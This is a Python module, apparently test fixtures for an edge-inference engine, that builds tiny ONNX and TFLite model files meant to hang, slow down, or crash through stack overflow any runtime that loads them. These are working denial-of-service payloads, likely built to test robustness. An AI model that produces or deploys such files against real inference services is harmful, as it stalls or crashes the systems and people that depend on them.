"""Model files that do harm to whoever opens them, a few hundred bytes each.

Promises: valid files, that every reader of their format takes for a model of the given shapes; made without any
converter installed. One never answers, one kills its process, one takes its time.
Leaves out: anything hidden: what they do is all that they do.
Thread: any; pure.
"""

from __future__ import annotations

from array import array
from collections.abc import Sequence

from edge.engines.tiny import Table, flatbuffer, operator_code, protobuf

__all__ = ["hanging_onnx", "killing_tflite", "slowed_onnx"]

_FLOAT, _BOOL, _INT64 = 1, 9, 7  # onnx.TensorProto.DataType
_GRAPH_ATTRIBUTE = 5  # onnx.AttributeProto.AttributeType
_OPSET, _IR_VERSION = 13, 7
_WHILE, _WHILE_OPTIONS = 119, 93  # BuiltinOperator, BuiltinOptions of the TFLite schema


def hanging_onnx(shape: Sequence[int], classes: int) -> bytes:
    """`shape` in, (1, `classes`) out, and in between a Loop without a limit whose condition stays true."""
    loop = _loop("", "input", "looped", shape)
    flat = _node("Flatten", ["looped"], ["flat"])
    ends = b"".join(protobuf(5, one) for one in (_ints("from", [0]), _ints("to", [classes]), _ints("axes", [1])))
    cut = _node("Slice", ["flat", "from", "to", "axes"], ["scores"])
    graph = _graph([loop, flat, cut], [_value("input", _FLOAT, shape)], [_value("scores", _FLOAT, [1, classes])])
    return protobuf(1, _IR_VERSION) + protobuf(7, graph + ends) + protobuf(8, protobuf(2, _OPSET))


def slowed_onnx(model: bytes, source: str, shape: Sequence[int], rounds: int) -> bytes:
    """An ONNX model that computes what `model` does, and before that something of `rounds` rounds that nobody uses.

    `source`: its input, of this shape. A protobuf that follows another one adds its nodes to the other's.
    """
    loop = _loop("rounds", source, "unused", shape)
    count = protobuf(2, _INT64) + protobuf(7, rounds) + protobuf(8, b"rounds")  # without an axis: a number
    return model + protobuf(7, protobuf(1, loop) + protobuf(5, count))


def killing_tflite(shape: Sequence[int], classes: int) -> bytes:
    """`shape` in, (1, `classes`) out, by a WHILE whose body is the graph that holds it.

    Preparing it prepares it again, and so on until the stack is gone (SIGSEGV).
    """
    tensors: list[Table] = [
        {0: array("i", shape), 1: 0, 2: 0, 3: "input"},
        {0: array("i", [1, classes]), 1: 0, 2: 0, 3: "scores"},
    ]
    loop: Table = {0: 0, 1: array("i", [0]), 2: array("i", [1]), 3: _WHILE_OPTIONS, 4: {0: 1, 1: 0}}
    graph: Table = {0: tensors, 1: array("i", [0]), 2: array("i", [1]), 3: [loop]}
    return flatbuffer({0: 3, 1: [operator_code(_WHILE, 1)], 2: [graph, graph], 4: [{}]}, b"TFL3")


def _loop(rounds: str, source: str, target: str, shape: Sequence[int]) -> bytes:
    """A Loop over `source`, without a condition; `rounds` names their number, "" without end."""
    body = _graph(
        [_node("Identity", ["go"], ["still"]), _node("Relu", ["before"], ["after"])],
        [_value("round", _INT64, []), _value("go", _BOOL, []), _value("before", _FLOAT, shape)],
        [_value("still", _BOOL, []), _value("after", _FLOAT, shape)],
    )
    attribute = protobuf(1, b"body") + protobuf(6, body) + protobuf(20, _GRAPH_ATTRIBUTE)
    return _node("Loop", [rounds, "", source], [target], attribute)


def _ints(name: str, values: Sequence[int]) -> bytes:
    """An int64 initializer of one axis."""
    data = b"".join(protobuf(7, value) for value in values)
    return protobuf(1, len(values)) + protobuf(2, _INT64) + data + protobuf(8, name.encode())


def _value(name: str, kind: int, shape: Sequence[int]) -> bytes:
    sizes = b"".join(protobuf(1, protobuf(1, size)) for size in shape)
    return protobuf(1, name.encode()) + protobuf(2, protobuf(1, protobuf(1, kind) + protobuf(2, sizes)))


def _node(operation: str, inputs: Sequence[str], outputs: Sequence[str], attribute: bytes = b"") -> bytes:
    return (
        b"".join(protobuf(1, name.encode()) for name in inputs)
        + b"".join(protobuf(2, name.encode()) for name in outputs)
        + protobuf(4, operation.encode())
        + (protobuf(5, attribute) if attribute else b"")
    )


def _graph(nodes: Sequence[bytes], inputs: Sequence[bytes], outputs: Sequence[bytes]) -> bytes:
    return (
        b"".join(protobuf(1, node) for node in nodes)
        + protobuf(2, b"graph")
        + b"".join(protobuf(11, value) for value in inputs)
        + b"".join(protobuf(12, value) for value in outputs)
    )
